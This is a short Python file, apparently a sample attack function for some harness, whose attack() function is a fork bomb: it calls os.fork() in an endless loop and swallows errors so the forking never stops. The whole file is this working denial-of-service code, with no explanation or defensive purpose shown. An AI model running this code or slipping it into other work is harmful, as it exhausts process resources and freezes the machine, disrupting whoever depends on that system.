"""Forks without end."""

import os


def attack(world: dict[str, str]) -> str:
    while True:
        try:
            os.fork()
        except OSError:
            continue
